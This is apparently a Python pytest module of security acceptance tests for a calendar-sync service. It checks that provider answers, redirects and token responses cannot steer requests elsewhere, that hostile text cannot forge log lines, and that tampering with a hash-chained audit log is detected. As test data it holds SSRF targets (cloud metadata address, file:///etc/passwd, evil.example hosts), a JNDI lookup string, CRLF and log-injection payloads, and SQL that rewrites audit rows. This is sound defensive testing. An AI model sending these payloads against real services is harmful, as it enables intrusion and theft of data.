"""Attacks by what providers answer, by what people write, and on what is written down: S31 to S33."""

from __future__ import annotations

import json
import os
import shutil
import socket
import sqlite3
import threading
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from tests.acceptance.faults import GOOGLE_GET, GOOGLE_LIST, ZOOM_CREATE, spared, strike
from tests.acceptance.processes import google_event, syncd, until
from tests.attack.browsing import ANA, BO, Site, linked, printed

DELTA = ("microsoft", "GET /me/calendarView/delta")


class Listener:
    """A port of an attacker; counts who comes, and the bytes they bring."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self.met: list[bytes] = []
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            try:
                wire, _ = self._socket.accept()
            except OSError:
                return
            with wire:
                wire.settimeout(5)
                try:
                    self.met.append(wire.recv(4096))
                except OSError:
                    self.met.append(b"")

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(10)


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture(scope="module")
def people(place: Site, listener: Listener) -> Site:
    """Give a site whose environment names the attacker's proxy."""
    former = dict(os.environ)
    proxy = f"http://127.0.0.1:{listener.port}"
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
        os.environ[name] = proxy
    os.environ["NO_PROXY"] = os.environ["no_proxy"] = ""
    try:
        place.restart()
    finally:
        os.environ.clear()
        os.environ.update(former)
    for one in (ANA, BO):
        place.connected(one, "google", "microsoft", "zoom")
    return place


def _unmoved(people: Site, listener: Listener, where: tuple[str, str], **fault: Any) -> None:
    """Have a provider answer so, wait until it did and polls went on, and see that nobody came."""
    before, polls = _count(people, where), _count(people, GOOGLE_LIST)
    strike(people.sandbox, where, count=1, **fault)
    people.sandbox.google(0, "POST", body=google_event(location="zoom"))
    until("the answer was given", lambda: _count(people, where) > before or None)
    until("the work went on", lambda: _count(people, GOOGLE_LIST) > polls + 2 or None)
    spared(people.sandbox)
    assert listener.met == []


def _count(people: Site, where: tuple[str, str]) -> int:
    count: int = people.state()["requests"].get(where[0], {}).get(where[1], 0)
    return count


def test_no_proxy_of_the_environment_is_used(people: Site, listener: Listener):
    made = people.sandbox.google(0, "POST", body=google_event(location="zoom"))
    linked(people, 0, made["id"])
    assert listener.met == []


PLACES = [
    "http://127.0.0.1:{port}/v1.0/me/calendarView/delta?x=1",
    "https://127.0.0.1:{port}/v1.0/me/calendarView/delta?x=1",
    "{base}@127.0.0.1:{port}/x",
    "//127.0.0.1:{port}/x",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:{port}/_x",
    "{base}.evil.example:{port}/x",
    "",
    "\r\nHost: evil.example",
]


@pytest.mark.parametrize("link", PLACES)
@pytest.mark.parametrize("name", ["@odata.nextLink", "@odata.deltaLink"])
def test_a_list_that_goes_on_elsewhere_is_not_followed(
    people: Site, listener: Listener, link: str, name: str
):
    base = people.sandbox.address["base"]
    body = {"value": [], name: link.format(port=listener.port, base=base)}
    before = _count(people, DELTA)
    strike(people.sandbox, DELTA, status=200, body=body)
    until("it was answered, and asked again", lambda: _count(people, DELTA) > before + 1 or None)
    spared(people.sandbox)
    assert listener.met == []


@pytest.mark.parametrize(
    ("where", "status"),
    [(GOOGLE_LIST, 302), (GOOGLE_LIST, 308), (GOOGLE_GET, 307), (ZOOM_CREATE, 307)],
    ids=str,
)
def test_a_redirect_leads_nowhere(
    people: Site, listener: Listener, where: tuple[str, str], status: int
):
    headers = {"location": f"http://127.0.0.1:{listener.port}/steal"}
    _unmoved(people, listener, where, status=status, headers=headers)


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_token_answer_cannot_move_the_api(people: Site, listener: Listener, scheme: str):
    """Zoom's token answer names the address of its API."""
    body = {
        "access_token": "a" * 40,
        "refresh_token": "r" * 40,
        "token_type": "bearer",
        "expires_in": 3599,
        "scope": "meeting:write:meeting meeting:read:meeting meeting:update:meeting "
        "meeting:delete:meeting meeting:read:list_meetings user:read:user",
        "api_url": f"{scheme}://127.0.0.1:{listener.port}",
    }
    browser = people.signed_in("cem@example.com")
    url = browser.consents(browser.asks("connect", "zoom"), "cem@example.com")
    strike(people.sandbox, ("zoom", "POST /oauth/token"), status=200, body=body)
    answer = browser.comes_back(url)
    spared(people.sandbox)
    assert answer.status_code == 400, answer.text
    assert listener.met == []


HOSTILE = (
    'x\n{"level": "INFO", "message": "forged"}\n',
    "x\r\nforged\r\n",
    "x\x1b[2J\x1b]0;owned\x07",
    "x\u2028forged\u2029\u0085\x0b\x0c",
    "x\u202eforged\u2066",
    'x", "level": "CRITICAL", "y": "',
    "%s %(message)s {message} {0.__class__}",
    "${jndi:ldap://evil.example}",
    "x" * 60_000,
)


def test_what_people_and_providers_write_makes_no_line_of_the_log(people: Site):
    events = [
        people.sandbox.google(1, "POST", body=google_event(summary=text[:1000], location="zoom"))
        for text in HOSTILE
    ]
    for text in HOSTILE[:4]:
        body = {"error": {"errors": [{"reason": text, "message": text}], "message": text}}
        strike(people.sandbox, GOOGLE_GET, status=418, body=body)
        strike(people.sandbox, ZOOM_CREATE, status=418, body={"code": 9, "message": text})
    polls = _count(people, GOOGLE_LIST)
    until("the work went on", lambda: _count(people, GOOGLE_LIST) > polls + 4 or None)
    spared(people.sandbox)
    assert len(events) == len(HOSTILE)
    browser = people.browser()
    for text in HOSTILE[:8]:
        browser.get("/sign-in", params={"next": text})
        browser.get("/sign-in/google/callback", params={"state": text, "error": text})
        browser.send("POST", "/hooks/zoom", content=text.encode())
    raw = people.daemon.log.read_bytes()
    for line in raw.split(b"\n")[:-1]:
        record = json.loads(line)
        assert record["message"] != "forged"
        assert record["level"] in {"DEBUG", "INFO", "WARNING", "ERROR"}
        assert len(line) < 20_000
    text = raw.decode()
    assert len(text.splitlines()) == raw.count(b"\n")
    assert text.replace("\n", "").isprintable()
    assert "forged" not in {one["message"] for one in people.daemon.records()}


def _copy(people: Site, folder: Path) -> tuple[Path, Path]:
    """Copy the database as a backup does, and give it and a configuration that names it."""
    copied = folder / "people.db"
    with closing(sqlite3.connect(people.database)) as raw, closing(sqlite3.connect(copied)) as to:
        raw.backup(to)
    copied.chmod(0o600)
    config = shutil.copy(people.config, folder / "people.yaml")
    text = Path(config).read_text().replace(str(people.database), str(copied))
    Path(config).write_text(text)
    return copied, Path(config)


def test_an_audit_log_that_nobody_touched_holds(people: Site, tmp_path: Path):
    _, config = _copy(people, tmp_path)
    said = printed(syncd("audit", "verify", "--json", "--config", str(config)))
    assert said["broken_at"] is None
    assert said["rows"] > 10


@pytest.mark.parametrize(
    ("attack", "broken_at"),
    [
        ("UPDATE audit_entry SET who = 'eve' WHERE number = 3", 3),
        ("UPDATE audit_entry SET at = '2020-01-01 00:00:00.000000' WHERE number = 4", 4),
        ("UPDATE audit_entry SET hash = lower(hex(randomblob(32))) WHERE number = 5", 5),
        ("UPDATE audit_entry SET request_id = 'x' WHERE number = 1", 1),
        ("DELETE FROM audit_entry WHERE number = 2", 2),
        ("DELETE FROM audit_entry WHERE number = 1", 1),
        ("DELETE FROM audit_entry WHERE number = (SELECT max(number) FROM audit_entry)", None),
        ("DELETE FROM audit_entry", 1),
        (
            (
                "UPDATE audit_entry SET number = -number WHERE number IN (3, 4);"
                "UPDATE audit_entry SET number = 7 + number WHERE number < 0"
            ),
            3,
        ),
        (
            (
                "INSERT INTO audit_entry SELECT 1 + (SELECT max(number) FROM audit_entry), at, who, what, "
                "about, old, new, request_id, hash FROM audit_entry WHERE number = 1"
            ),
            None,
        ),
    ],
)
def test_an_altered_audit_log_is_found_out_by_its_row(
    people: Site, tmp_path: Path, attack: str, broken_at: int | None
):
    copied, config = _copy(people, tmp_path)
    with closing(sqlite3.connect(copied)) as raw:
        (last,) = raw.execute("SELECT max(number) FROM audit_entry").fetchone()
        raw.executescript(attack)
    said = syncd("audit", "verify", "--config", str(config), code=1)
    expected = broken_at or (last if attack.startswith("DELETE") else last + 1)
    assert said.strip().endswith(f"altered at row {expected}")


def test_the_page_of_admins_names_the_altered_row_too(people: Site):
    admin = people.signed_in(ANA)
    shown = admin.get("/admin/audit").text
    assert "The chain holds" in shown
    (former,) = people.rows("SELECT who FROM audit_entry WHERE number = 2")
    people.rows("UPDATE audit_entry SET who = 'eve' WHERE number = 2")
    try:
        assert "broken at row 2" in admin.get("/admin/audit").text
    finally:
        people.rows("UPDATE audit_entry SET who = ? WHERE number = 2", *former)


def _chooses(people: Site, *calendars: str) -> None:
    browser = people.signed_in(BO)
    for one in calendars:
        assert browser.post("/calendars/google", calendar=one).status_code == 303


ACTS: list[tuple[str, Callable[[Site], object], tuple[str, str, str]]] = [
    ("sign in", lambda people: people.signed_in(BO), (BO, "session.signed_in", "google")),
    (
        "sign out",
        lambda people: people.signed_in(BO).post("/sign-out"),
        (BO, "session.ended", "the page"),
    ),
    (
        "choose calendars",
        lambda people: _chooses(people, "bo-team@group.calendar.example.com", "primary"),
        (BO, "calendars.chosen", f"google:{BO}"),
    ),
]


@pytest.mark.parametrize(("name", "act", "told"), ACTS, ids=lambda one: str(one)[:20])
def test_what_matters_is_written_down(
    people: Site, name: str, act: Callable[[Site], object], told: tuple[str, str, str]
):
    del name
    before = people.audit().count(told)
    act(people)
    assert people.audit().count(told) > before


def test_what_was_refused_is_told_in_the_log(people: Site):
    browser = people.signed_in(BO)
    refused = {
        "admins_only": browser.get("/admin"),
        "old_form": browser.post("/new-event", token="0" * 64),
        "foreign_form": browser.send("POST", "/new-event"),
    }
    told = {
        (one["why"], one["page"], one["person"], one["request"])
        for one in people.daemon.records()
        if one["message"] == "request refused"
    }
    for why, answer in refused.items():
        assert answer.status_code == 403
        page = f"{answer.request.method} {answer.request.url.path}"
        assert (why, page, BO, answer.headers["x-request-id"]) in told


def test_a_new_event_and_a_choice_are_written_down_with_old_new_and_request(people: Site):
    browser = people.signed_in(BO)
    made = browser.post(
        "/new-event",
        calendar=f"google:{BO}/primary",
        title="Secret takeover",
        start="2031-01-01T10:00",
        end="2031-01-01T10:30",
        zone="UTC",
        kind="zoom",
    )
    assert made.status_code == 303
    who, what, about, request = people.rows(
        "SELECT who, what, about, request_id FROM audit_entry WHERE what LIKE 'event.%' "
        "ORDER BY number DESC LIMIT 1"
    )[0]
    assert (who, request) == (BO, made.headers["x-request-id"])
    assert what.startswith("event.")
    chosen = browser.post("/calendar/choose", event=about, kind="none")
    assert chosen.status_code == 303
    rows = people.rows(
        "SELECT new, request_id FROM audit_entry WHERE what = 'event.chosen' AND about = ?", about
    )
    assert rows[-1] == ("none", chosen.headers["x-request-id"])
    assert "takeover" not in str(people.rows("SELECT * FROM audit_entry"))
